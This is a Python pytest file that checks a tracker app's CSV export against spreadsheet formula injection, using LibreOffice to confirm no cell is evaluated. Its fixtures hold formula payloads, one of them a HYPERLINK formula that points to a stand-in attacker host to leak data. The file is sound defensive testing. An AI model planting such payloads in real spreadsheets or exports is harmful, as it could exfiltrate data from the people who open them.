"""CSV export neutralises cells a spreadsheet would read as formulas (OWASP CSV injection),
checked with the spreadsheet itself: LibreOffice opens the export and evaluates nothing."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import Runner

from tracker.services.export import neutralise_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open the file")'
PAYLOADS = {
    "title": "=1+1",
    "owner": "+7 Directorate",
    "area": "-2+3",
    "counterpart": "@SUM(1,1)",
    "tags": "=2*3",
    "resolution": HYPERLINK,
    "evidence": "-1",
}


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Sign the agreement", "Sign the agreement"),
        ("a=1+1", "a=1+1"),
        ("", ""),
    ],
)
def test_neutralise_cell(value: str, shown: str) -> None:
    assert neutralise_cell(value) == shown


@pytest.fixture
def hostile(run: Runner) -> Runner:
    """A commitment whose text fields all start like formulas, closed, and one late by 10 days."""
    for args in (
        ("owner", "add", PAYLOADS["owner"]),
        (
            "add",
            PAYLOADS["title"],
            "--owner",
            PAYLOADS["owner"],
            "--due",
            "2017-09-01",
            "--area",
            PAYLOADS["area"],
            "--counterpart",
            PAYLOADS["counterpart"],
            "--tag",
            PAYLOADS["tags"],
        ),
        ("add", HYPERLINK, "--owner", PAYLOADS["owner"], "--due", "2017-09-01"),
        ("close", "1", "--note", PAYLOADS["resolution"], "--evidence", PAYLOADS["evidence"]),
    ):
        result = run(*args)
        assert result.exit_code == 0, (args, result.stderr)
    return run


def test_csv_cells_of_user_text_are_neutralised(hostile: Runner) -> None:
    result = hostile("export", "--format", "csv", "--as-of", "2017-09-11")
    assert result.exit_code == 0, result.stderr
    first, second = csv.DictReader(io.StringIO(result.stdout))
    for field, value in PAYLOADS.items():
        assert first[field] == "'" + value, field
    assert second["title"] == "'" + HYPERLINK
    # Numbers stay numbers: a spreadsheet must still be able to sum them.
    assert (second["id"], second["days_overdue"], second["slips"]) == ("2", "10", "0")


def _cells(xlsx: Path) -> tuple[list[str], dict[str, str]]:
    """(formulas, the text of each cell by reference) of the first sheet of an .xlsx file."""
    with zipfile.ZipFile(xlsx) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    entities = {"&quot;": '"', "&apos;": "'", "&lt;": "<", "&gt;": ">", "&amp;": "&"}

    def text(xml: str) -> str:
        return re.sub("&[a-z]+;", lambda m: entities[m.group()], re.sub(r"<[^>]+>", "", xml))

    shared = [text(item) for item in re.findall(r"<si>(.*?)</si>", strings, re.S)]
    cells = {}
    for ref, attributes, body in re.findall(r'<c r="([A-Z]+\d+)"([^>]*)>(.*?)</c>', sheet):
        value = re.search(r"<v>(.*?)</v>", body)
        if value is not None:
            shared_string = ' t="s"' in attributes
            cells[ref] = shared[int(value.group(1))] if shared_string else text(value.group(1))
    return re.findall(r"<f[ >]", sheet), cells


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed: the spreadsheet check needs it "
    "(apt-get install libreoffice-calc-nogui; .ci/run installs it)",
)
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_libreoffice_evaluates_no_formula_in_the_export(hostile: Runner, tmp_path: Path) -> None:
    export = tmp_path / "export.csv"
    result = hostile("export", "--format", "csv", "--as-of", "2017-09-11", "--out", export)
    assert result.exit_code == 0, result.stderr
    # A profile of its own: another soffice running on the machine would hold the default one.
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path),
            str(export),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    formulas, cells = _cells(tmp_path / "export.xlsx")
    assert formulas == [], "LibreOffice read a cell of the export as a formula"
    columns = {cells[f"{letter}1"]: letter for letter in "ABCDEFGHIJKLMNOPQRST"}
    for field, value in PAYLOADS.items():
        # Shown as the text that was typed (LibreOffice keeps the quote visible).
        assert cells[f"{columns[field]}2"].lstrip("'") == value, field
    assert cells[f"{columns['title']}3"].lstrip("'") == HYPERLINK
    assert cells["A3"] == "2" and cells[f"{columns['days_overdue']}3"] == "10"
